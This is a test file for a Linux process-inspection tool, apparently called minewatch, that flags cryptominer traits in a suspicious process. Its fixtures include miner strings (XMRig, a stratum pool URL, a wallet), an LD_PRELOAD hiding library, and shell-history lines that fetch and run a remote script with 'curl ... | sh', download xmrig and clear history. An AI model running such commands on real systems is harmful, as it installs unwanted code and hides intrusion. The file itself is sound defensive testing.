import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { inspectProcess, inspectQuick, type InspectReport, type Section } from '../../src/inspect/index';
import { LOGIN_PROCESS, USER_PROCESS } from '../../src/inspect/logins';
import { procReason, reasonFor } from '../../src/inspect/util';
import { fakeElf, makeFixture, utmpRecords, WALLET, type Fixture } from './helpers';

function data<T>(s: Section<T>): T {
  if (!s.ok) throw new Error(`section failed: ${s.reason}`);
  return s.data;
}

let fx: Fixture;
let exeFile: string;
const MINER_BYTES = fakeElf({
  interp: false,
  extra: `\0\0stratum+tcp://pool.minexmr.com:4444\0\0${WALLET}\0--donate-level=1\0XMRig/6.21.0\0gxmr.example.org\0threadpool.cpp\0ForkJoinPool.common\0`,
});

beforeEach(() => {
  fx = makeFixture();
  exeFile = path.join(fx.dir, 'rcu-sched.bin');
  fs.writeFileSync(exeFile, MINER_BYTES, { mode: 0o755 });
  fs.symlinkSync(exeFile, path.join(fx.procRoot, '4242', 'exe'));
});
afterEach(() => fx.cleanup());

function quick(pid = 4242): InspectReport {
  return inspectQuick(pid, { procRoot: fx.procRoot, root: fx.root });
}

describe('identity', () => {
  it('reads stat/status, resolves user, groups, home and the parent chain', () => {
    const id = data(quick().identity);
    expect(id).toMatchObject({ pid: 4242, ppid: 400, name: 'rcu-sched', state: 'S', uid: 1000, user: 'alice' });
    expect(id.gids).toEqual([1000, 999]);
    expect(id.groups).toEqual(['alice', 'docker']);
    expect(id.shell).toBe('/bin/bash');
    expect(id.home).toBe('/home/alice');
    expect(id.session).toBe(4242);
    expect(id.ttyNr).toBe(0);
    expect(id.cgroup).toBe('/user.slice/user-1000.slice/session-3.scope');
    // btime 1700000000 s + 12345 ticks at 100 Hz
    expect(id.startTime).toBe(1_700_000_000_000 + 123_450);
    expect(id.ancestry).toEqual([
      { pid: 400, name: 'sshd' },
      { pid: 1, name: 'systemd' },
    ]);
  });

  it('canSudo: a sudoers.d rule (with a continuation line) names alice', () => {
    const sudo = data(quick().identity).canSudo;
    expect(sudo.value).toBe(true);
    expect(sudo.why).toContain('/etc/sudoers.d/x');
    expect(sudo.why).toContain('NOPASSWD');
  });

  it('canSudo: bob is in wheel through /etc/group even though the process lacks the gid', () => {
    const id = data(quick(4300).identity);
    expect(id.user).toBe('bob');
    expect(id.gids).toEqual([1001]);
    expect(id.canSudo).toEqual({ value: true, why: 'member of group wheel' });
    expect(id.ttyNr).toBe(34816);
  });

  it('canSudo: carol has no rule (comments and dotted sudoers.d names do not count)', () => {
    const id = data(quick(4301).identity);
    expect(id.name).toBe('a) (weird');
    expect(id.user).toBe('carol');
    expect(id.canSudo.value).toBe(false);
  });

  it('canSudo says "no sudoers file" when there is none, and is unknown, not false, when it cannot be read', () => {
    fs.rmSync(path.join(fx.root, 'etc/sudoers'));
    expect(data(quick(4301).identity).canSudo).toEqual({ value: false, why: 'no sudoers file (/etc/sudoers does not exist) and not in sudo/wheel/admin' });
    // group membership still decides without sudoers
    expect(data(quick(4300).identity).canSudo.value).toBe(true);
    fs.mkdirSync(path.join(fx.root, 'etc/sudoers')); // there, but not a file minewatch will read
    const sudo = data(quick(4301).identity).canSudo;
    expect(sudo.value).toBeNull();
    expect(sudo.why).toMatch(/^unknown \(cannot read \/etc\/sudoers: /);
  });

  it('an unknown uid shows as a number', () => {
    fs.writeFileSync(path.join(fx.root, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
    const id = data(quick().identity);
    expect(id.user).toBe('1000');
    expect(id.home).toBeNull();
  });
});

describe('executable', () => {
  it('quick: link target, stat and type from magic bytes, no hashes', () => {
    const ex = data(quick().executable);
    expect(ex.path).toBe(exeFile);
    expect(ex.deleted).toBe(false);
    expect(ex.memfd).toBe(false);
    expect(ex.size).toBe(MINER_BYTES.length);
    expect(ex.mode).toBe(0o755);
    expect(ex.owner).toBe('root');
    expect(ex.fileType).toBe('ELF 64-bit LSB executable, x86-64, statically linked');
    expect(ex.sha256).toBeNull();
    expect(ex.md5).toBeNull();
    expect(ex.stringsHits).toEqual([]);
  });

  it('full: sha256 + md5 of the file and miner strings, without false pool hits', async () => {
    const progress: [number, number][] = [];
    const r = await inspectProcess(4242, {
      procRoot: fx.procRoot,
      root: fx.root,
      onProgress: (d, t) => progress.push([d, t]),
    });
    const ex = data(r.executable);
    expect(ex.sha256).toBe(crypto.createHash('sha256').update(MINER_BYTES).digest('hex'));
    expect(ex.md5).toBe(crypto.createHash('md5').update(MINER_BYTES).digest('hex'));
    expect(progress.at(-1)).toEqual([MINER_BYTES.length, MINER_BYTES.length]);
    const hits = ex.stringsHits.map((h) => `${h.kind}:${h.text}`);
    expect(hits).toContain('stratum:stratum+tcp://pool.minexmr.com:4444');
    expect(hits).toContain(`wallet:${WALLET}`);
    expect(hits).toContain('miner:donate-level');
    expect(hits).toContain('miner:xmrig');
    expect(hits).toContain('pool:gxmr.example.org');
    // the stratum host is not repeated as a pool hit; code identifiers are not hosts
    expect(hits.filter((h) => h.includes('minexmr'))).toHaveLength(1);
    expect(hits.some((h) => h.includes('threadpool') || h.includes('ForkJoinPool'))).toBe(false);
  });

  it('reports a deleted exe and a memfd exe from the link text', () => {
    const link = path.join(fx.procRoot, '4242', 'exe');
    fs.rmSync(link);
    fs.symlinkSync('/tmp/.x/rcu-sched (deleted)', link);
    let ex = data(quick().executable);
    expect(ex).toMatchObject({ path: '/tmp/.x/rcu-sched', deleted: true, memfd: false, size: null });
    expect(ex.fileType).toMatch(/^unknown/);
    fs.rmSync(link);
    fs.symlinkSync('/memfd:kworker (deleted)', link);
    ex = data(quick().executable);
    expect(ex).toMatchObject({ path: '/memfd:kworker', deleted: true, memfd: true });
  });

  it('a script exe is typed by its #! line', () => {
    fs.writeFileSync(exeFile, '#!/bin/sh\nexec ./x\n');
    expect(data(quick().executable).fileType).toBe('script (/bin/sh)');
  });

  it('a kernel thread has no executable, and says so', () => {
    const r = quick(2);
    expect(r.executable).toEqual({ ok: false, reason: 'no executable: kernel thread or zombie' });
    expect(data(r.cmdline)).toEqual([]);
    expect(data(r.identity).name).toBe('kthreadd');
  });
});

describe('cwd, cmdline, environment', () => {
  it('returns raw strings (escaping is the renderer job)', () => {
    const r = quick();
    expect(data(r.cwd)).toBe('/tmp/.x');
    expect(data(r.cmdline)).toEqual(['rcu-sched', '--donate-level=1', '\x1b[2Jgotcha']);
  });

  it('flags LD_PRELOAD and masks secret-looking values, never returning them', () => {
    const env = data(quick().environment);
    const by = new Map(env.map((e) => [e.name, e]));
    expect(by.get('LD_PRELOAD')).toEqual({ name: 'LD_PRELOAD', value: '/tmp/.x/libhide.so', flag: 'preload' });
    expect(by.get('AWS_SECRET_ACCESS_KEY')?.flag).toBe('secret-masked');
    expect(by.get('DB_PASSWORD')?.flag).toBe('secret-masked');
    expect(by.get('DATABASE_URL')?.flag).toBe('secret-masked'); // credentials inside a URL
    // not secrets
    expect(by.get('PWD')).toEqual({ name: 'PWD', value: '/tmp/.x' });
    expect(by.get('KEYBOARD_LAYOUT')).toEqual({ name: 'KEYBOARD_LAYOUT', value: 'us' });
    expect(by.get('PATH')?.flag).toBeUndefined();
    const json = JSON.stringify(env);
    expect(json).not.toContain('wJalrXUtnFEMI');
    expect(json).not.toContain('hunter2');
    expect(json).not.toContain('s3cr3tpw');
  });

  it('caps a huge environ instead of reading it whole', () => {
    const big = Buffer.alloc(5 * 1024 * 1024, 0x41);
    fs.writeFileSync(path.join(fx.procRoot, '4242', 'environ'), Buffer.concat([Buffer.from('X='), big]));
    const env = data(quick().environment);
    expect(env).toHaveLength(1);
    expect(env[0]!.value.length).toBeLessThanOrEqual(1024 * 1024);
  });
});

describe('open files and connections', () => {
  it('sorts fds into files, sockets, pipes and other', () => {
    const of = data(quick().openFiles);
    expect(of.total).toBe(10);
    expect(of.files).toEqual(['/dev/null', '/tmp/.x/config.json']);
    expect(of.sockets).toEqual([91001, 91002, 99999, 91003, 91004]);
    expect(of.pipes).toBe(2);
    expect(of.other).toEqual(['anon_inode:[eventfd]']);
    expect(of.unreadable).toBe(0);
  });

  it('matches socket inodes against tcp, tcp6 and udp (udp6 missing is fine)', () => {
    const conns = data(quick().connections);
    expect(conns).toEqual([
      {
        protocol: 'tcp',
        localAddress: '10.0.0.5',
        localPort: 41234,
        remoteAddress: '203.0.113.7',
        remotePort: 3333,
        state: 'ESTABLISHED',
        inode: 91001,
        poolPort: true,
      },
      {
        protocol: 'tcp',
        localAddress: '127.0.0.1',
        localPort: 8080,
        remoteAddress: '0.0.0.0',
        remotePort: 0,
        state: 'LISTEN',
        inode: 91002,
        poolPort: false,
      },
      {
        protocol: 'tcp6',
        localAddress: '::1',
        localPort: 45986,
        remoteAddress: '2001:db8::1',
        remotePort: 443,
        state: 'ESTABLISHED',
        inode: 91003,
        poolPort: false,
      },
      {
        protocol: 'udp',
        localAddress: '0.0.0.0',
        localPort: 54321,
        remoteAddress: '0.0.0.0',
        remotePort: 0,
        state: 'UNCONN',
        inode: 91004,
        poolPort: false,
      },
    ]);
    // the sshd listener (inode 123) in the same table is not this process's
    expect(conns.some((c) => c.inode === 123)).toBe(false);
  });

  it('fails connections with a reason when no table is readable', () => {
    fs.rmSync(path.join(fx.procRoot, '4242', 'net'), { recursive: true });
    expect(quick().connections).toEqual({ ok: false, reason: 'no such file' });
  });
});

describe('memory maps', () => {
  it('counts regions, lists mapped files, deleted code and code from writable dirs', () => {
    const mm = data(quick().memoryMaps);
    expect(mm.regions).toBe(11);
    expect(mm.mappedFiles).toEqual([
      '/tmp/.x/rcu-sched',
      '/usr/lib/x86_64-linux-gnu/libc.so.6',
      '/tmp/.x/libhide.so',
      '/usr/lib/libevil.so',
      '/dev/shm/pulse-shm-1',
      '/var/tmp/my lib.so',
    ]);
    expect(mm.deletedLibs).toEqual(['/tmp/.x/rcu-sched', '/usr/lib/libevil.so']); // not the shm data segment
    expect(mm.writableDirLibs).toEqual(['/tmp/.x/rcu-sched', '/tmp/.x/libhide.so', '/var/tmp/my lib.so']);
  });
});

describe('logins', () => {
  it('reads the owner records from wtmp and btmp, newest first', () => {
    const log = path.join(fx.root, 'var/log');
    fs.writeFileSync(
      path.join(log, 'wtmp'),
      utmpRecords([
        { type: 2, line: '~', user: 'reboot', host: '6.1.0', sec: 1_700_000_000 },
        { type: USER_PROCESS, line: 'pts/0', user: 'alice', host: '198.51.100.4', sec: 1_700_000_100 },
        { type: USER_PROCESS, line: 'pts/1', user: 'bob', host: '198.51.100.6', sec: 1_700_000_200 },
        { type: 8, line: 'pts/0', user: '', host: '', sec: 1_700_000_250 },
        { type: USER_PROCESS, line: 'pts/2', user: 'alice', host: '203.0.113.7', sec: 1_700_000_300 },
      ]),
    );
    fs.writeFileSync(
      path.join(log, 'btmp'),
      utmpRecords([
        { type: LOGIN_PROCESS, line: 'ssh:notty', user: 'alice', host: '192.0.2.9', sec: 1_700_000_050 },
        { type: LOGIN_PROCESS, line: 'ssh:notty', user: 'admin', host: '192.0.2.9', sec: 1_700_000_060 },
      ]),
    );
    const lg = data(quick().logins);
    expect(lg.source).toBe('/var/log/wtmp, /var/log/btmp');
    expect(lg.last).toEqual([
      { user: 'alice', tty: 'pts/2', host: '203.0.113.7', time: 1_700_000_300_000 },
      { user: 'alice', tty: 'pts/0', host: '198.51.100.4', time: 1_700_000_100_000 },
    ]);
    expect(lg.failed).toEqual([{ user: 'alice', tty: 'ssh:notty', host: '192.0.2.9', time: 1_700_000_050_000 }]);
  });

  it('falls back to auth.log when wtmp/btmp are missing', () => {
    const lg = data(quick().logins);
    expect(lg.source).toBe('/var/log/auth.log');
    expect(lg.last.map((l) => l.host)).toEqual(['198.51.100.5', '198.51.100.4']);
    expect(lg.last[0]!.time).toBe(Date.parse('2024-01-06T11:00:00Z'));
    expect(lg.failed.map((l) => l.host)).toEqual(['192.0.2.9']); // "invalid user alicex" is not alice
  });

  it('fails with a plain reason when there is no source at all', () => {
    fs.rmSync(path.join(fx.root, 'var/log/auth.log'));
    const r = quick();
    expect(r.logins.ok).toBe(false);
    if (!r.logins.ok) expect(r.logins.reason).toMatch(/^no login records/);
  });
});

describe('history', () => {
  it('tails the last 20 lines of the owner history', () => {
    const h = data(quick().history);
    expect(h.file).toBe('/home/alice/.bash_history');
    expect(h.lines).toHaveLength(20);
    expect(h.lines.at(-1)).toBe('history -c');
    expect(h.lines).toContain('curl -fsSL http://203.0.113.7/x.sh | sh');
    expect(h.lines[0]).toBe('ls -la /tmp/10');
  });

  it('says when history is linked to /dev/null', () => {
    expect(quick(4300).history).toEqual({ ok: false, reason: 'history disabled: ~/.bash_history linked to /dev/null' });
  });

  it('reads zsh extended history', () => {
    fs.rmSync(path.join(fx.root, 'home/bob/.bash_history'));
    fs.writeFileSync(path.join(fx.root, 'home/bob/.zsh_history'), ': 1700000000:0;wget http://x/xmrig\n: 1700000001:0;./xmrig -o pool\n');
    expect(data(quick(4300).history)).toEqual({ file: '/home/bob/.zsh_history', lines: ['wget http://x/xmrig', './xmrig -o pool'] });
  });

  it('does not follow a history symlink to another file', () => {
    fs.writeFileSync(path.join(fx.root, 'etc/shadow'), 'root:$6$secret:19000::::::\n');
    fs.mkdirSync(path.join(fx.root, 'home/carol'));
    fs.symlinkSync('/etc/shadow', path.join(fx.root, 'home/carol/.bash_history'));
    const r = quick(4301);
    expect(r.history).toEqual({ ok: false, reason: '~/.bash_history is a link to /etc/shadow (not followed)' });
    expect(JSON.stringify(r)).not.toContain('$6$secret');
  });

  it('a FIFO planted as history or wtmp does not hang the inspector', () => {
    const fifo = path.join(fx.root, 'home/carol/.bash_history');
    const wtmp = path.join(fx.root, 'var/log/wtmp');
    fs.mkdirSync(path.join(fx.root, 'home/carol'));
    expect(spawnSync('mkfifo', [fifo, wtmp]).status).toBe(0);
    const t0 = performance.now();
    const r = quick(4301);
    expect(performance.now() - t0).toBeLessThan(10_000); // returned at all: a FIFO opened blocking never would
    expect(r.history).toEqual({ ok: false, reason: 'no shell history in /home/carol' });
    expect(r.logins.ok && r.logins.data.source).toBe('/var/log/auth.log');
  });

  it('no history file is a plain reason', () => {
    expect(quick(4301).history).toEqual({ ok: false, reason: 'no shell history in /home/carol' });
  });
});

describe('missing processes and files', () => {
  it('a PID that does not exist fails every section with "process has exited"', () => {
    const r = quick(999999);
    for (const key of ['identity', 'executable', 'cwd', 'cmdline', 'environment', 'openFiles', 'connections', 'memoryMaps', 'logins', 'history'] as const) {
      expect(r[key]).toEqual({ ok: false, reason: 'process has exited' });
    }
  });

  it('missing per-process files fail only their own section', () => {
    const r = quick(4300);
    expect(r.identity.ok).toBe(true);
    expect(r.cmdline).toEqual({ ok: false, reason: 'no such file' });
    expect(r.environment).toEqual({ ok: false, reason: 'no such file' });
    expect(r.openFiles).toEqual({ ok: false, reason: 'no such file' });
    expect(r.connections).toEqual({ ok: false, reason: 'open files unreadable: no such file' });
  });

  it('a file that vanishes mid-inspection reads as "process has exited" only when the PID dir is gone', () => {
    const enoent = Object.assign(new Error('gone'), { code: 'ENOENT' });
    expect(procReason(enoent, fx.procRoot, 4242)).toBe('no such file');
    fs.rmSync(path.join(fx.procRoot, '4242'), { recursive: true });
    expect(procReason(enoent, fx.procRoot, 4242)).toBe('process has exited');
    expect(procReason(Object.assign(new Error('x'), { code: 'ESRCH' }), fx.procRoot, 1)).toBe('process has exited');
    expect(reasonFor(Object.assign(new Error('x'), { code: 'EACCES' }))).toMatch(/\(EACCES\)$/);
  });

  it('inspectQuick on the fixture is fast', () => {
    const t0 = process.cpuUsage(); // CPU time: a loaded machine must not fail the test
    quick();
    const used = process.cpuUsage(t0);
    expect((used.user + used.system) / 1000).toBeLessThan(200);
  });
});
